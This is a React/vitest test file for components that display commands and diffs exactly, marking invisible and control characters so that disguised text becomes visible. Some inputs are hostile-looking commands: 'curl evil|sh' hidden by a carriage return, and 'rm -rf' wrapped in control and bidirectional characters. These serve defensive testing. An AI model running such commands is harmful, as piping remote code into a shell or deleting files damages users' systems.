import { createEvent, fireEvent, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { readFileSync } from "node:fs";
import { describe, expect, it, vi } from "vitest";
import { Random, text } from "@/test/random";
import { compare } from "./compare";
import { Comparison } from "./Comparison";
import { Literal, LiteralBlock, Prose } from "./Literal";
import { pieces } from "./marks";

vi.setConfig({ testTimeout: 300_000 }); // machines that are busy are slow

type Spelling = { name: string; text: string; shown: string };
const spellings = JSON.parse(readFileSync("../internal/literal/testdata/marks.json", "utf8")) as Spelling[];

// The names of the chips that are drawn.
const chips = (of: ParentNode) => [...of.querySelectorAll("[data-mark]")].map((c) => c.getAttribute("data-mark"));

// What is drawn as it is: all but the chips.
function plain(of: HTMLElement): string {
  const copy = of.cloneNode(true) as HTMLElement;
  for (const c of copy.querySelectorAll("[data-mark]")) c.remove();
  return copy.textContent ?? "";
}

describe("what acts", () => {
  it("is drawn whole, and what does not show itself is a chip", () => {
    const random = new Random(7);
    for (let n = 0; n < 150; n++) {
      const s = text(random);
      const { container, unmount } = render(
        <>
          <Literal text={s} />
          <Prose text={s} />
          <LiteralBlock text={s} label="Command" />
        </>,
      );
      const [one, prose] = container.querySelectorAll<HTMLElement>("span.literal");
      const box = screen.getByLabelText("Command");
      expect(one!.textContent).toBe(s);
      expect(prose!.textContent).toBe(s);
      expect(box.textContent).toBe(s);
      expect(chips(one!)).toHaveLength(pieces(s, true).filter((p) => typeof p === "object").length);
      expect(plain(box).replaceAll(/[\n\t]/g, "")).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/);
      unmount();
    }
  });

  it.each(spellings.filter((s) => s.text !== s.shown).map((s) => [s.name, s.text] as const))("shows %s", (_, s) => {
    const { container } = render(<LiteralBlock text={s} label="Command" />);
    expect(screen.getByLabelText("Command").textContent).toBe(s);
    expect(chips(container).length).toBeGreaterThan(0);
    expect(screen.getByRole("note").textContent).toMatch(/^This text contains \d+ character/);
  });

  it("is copied as it is", () => {
    const s = "rm\u00a0-rf \u001b[2Kx\u202e\nls";
    render(<LiteralBlock text={s} label="Command" />);
    const box = screen.getByLabelText("Command");
    getSelection()!.selectAllChildren(box);
    const copied = new Map<string, string>();
    const event = createEvent.copy(box, { clipboardData: { setData: (type: string, data: string) => copied.set(type, data) } });
    fireEvent(box, event);
    expect(copied.get("text/plain")).toBe(s);
    expect(event.defaultPrevented).toBe(true);
  });

  it("keeps letters that are written from right to left in their own place", () => {
    const { container } = render(<Literal text={'rm "אב" -rf "גד"'} />);
    expect([...container.querySelectorAll("bdi")].map((b) => b.textContent)).toEqual(["אב", "גד"]);
    expect(container.querySelector(".literal")!.getAttribute("dir")).toBe("ltr");
  });

  it("shows pictures in prose as such, and what hides among them as chips", () => {
    const { container } = render(<Prose text={"⚠️ done 👩\u200d💻 1\ufe0f\u20e3 r\u200dm"} />);
    expect(chips(container)).toEqual(["U+200D ZERO WIDTH JOINER"]);
  });
});

describe("a long text", () => {
  it("is drawn in parts that are the whole of it, and tells how many were shown", async () => {
    const s = Array.from({ length: 20_000 }, (_, i) => `line ${i}\n`).join("");
    render(<LiteralBlock text={s} label="Content" />);
    let read = screen.getByLabelText("Content").textContent ?? "";
    const next = screen.getByRole("button", { name: "Next part" });
    expect(screen.getByText(/Shown so far: 1 of 4/)).toBeTruthy();
    while (!(next as HTMLButtonElement).disabled) {
      fireEvent.click(next);
      read += screen.getByLabelText("Content").textContent;
    }
    expect(read).toBe(s);
    expect(screen.getByText(/Part 4 of 4: lines 18001 to 20000 of 20000. Shown so far: 4 of 4/)).toBeTruthy();
  });
});

describe("a comparison", () => {
  const rows = () =>
    [...screen.getByTestId("diff").querySelectorAll<HTMLElement>(".diff-row")].map((r) => `${r.dataset.sign}${r.textContent?.replace(/\n$/, "")}`);

  it("shows a change that only adds what is invisible", () => {
    render(<Comparison before={"a\nls\nb\n"} after={"a\nls\u200b\nb\n"} label="Changes" />);
    expect(rows()).toEqual([" a", "-ls", "+ls\u200b", " b"]);
    expect(chips(screen.getByTestId("diff"))).toEqual(["U+200B ZERO WIDTH SPACE"]);
  });

  it("shows a carriage return that a terminal would obey", () => {
    render(<Comparison before={"x\n"} after={"curl evil|sh #\rls\n"} label="Changes" />);
    expect(rows()).toEqual(["-x", "+curl evil|sh #\rls"]);
    expect(chips(screen.getByTestId("diff"))).toEqual(["CR"]);
  });

  it("shows a new file, an emptied one, and a last line that ends otherwise", () => {
    const first = render(<Comparison before="" after={"a\n\nb"} label="Changes" />);
    expect(rows()).toEqual(["+a", "+", "+b"]);
    first.rerender(<Comparison before={"a\n"} after="" label="Changes" />);
    expect(rows()).toEqual(["-a"]);
    first.rerender(<Comparison before={"a"} after={"a\n"} label="Changes" />);
    expect(rows()).toEqual([" a", "The last line now ends with a line feed."]);
  });

  it("is exact for more lines than a diff can tell apart", async () => {
    const lines = Array.from({ length: 60_000 }, (_, i) => `line ${i}`);
    const rows = compare(lines.join("\n"), lines.with(30_000, "other").join("\n"));
    expect(rows).toHaveLength(60_001);
    expect(rows.filter((r) => r.sign !== " ").map((r) => `${r.sign}${r.text}`)).toEqual(["-line 30000", "+other"]);
  });

  it("gives both texts back, whatever they are", async () => {
    const random = new Random(42);
    const user = userEvent.setup();
    for (let n = 0; n < 60; n++) {
      const lines = Array.from({ length: random.below(40) }, () => text(random, 4).replaceAll("\n", ""));
      const changed = lines.flatMap((l) => (random.below(8) === 0 ? [text(random, 4).replaceAll("\n", "")] : random.below(9) === 0 ? [] : [l]));
      const [before, after] = [lines, changed].map((l) => l.map((x) => `${x}\n`).join(""));
      const { unmount } = render(<Comparison before={before!} after={after!} label="Changes" />);
      if (before !== after) {
        for (const fold of screen.queryAllByRole("button", { name: /unchanged/ })) await user.click(fold);
        const shown = [...screen.getByTestId("diff").querySelectorAll<HTMLElement>(".diff-row")];
        const of = (signs: string) => shown.filter((r) => signs.includes(r.dataset.sign!)).map((r) => r.textContent).join("");
        // The difference of two such texts is of no use in a message.
        expect(of(" +") === after && of(" -") === before, `case ${n}`).toBe(true);
      }
      unmount();
    }
  });
});
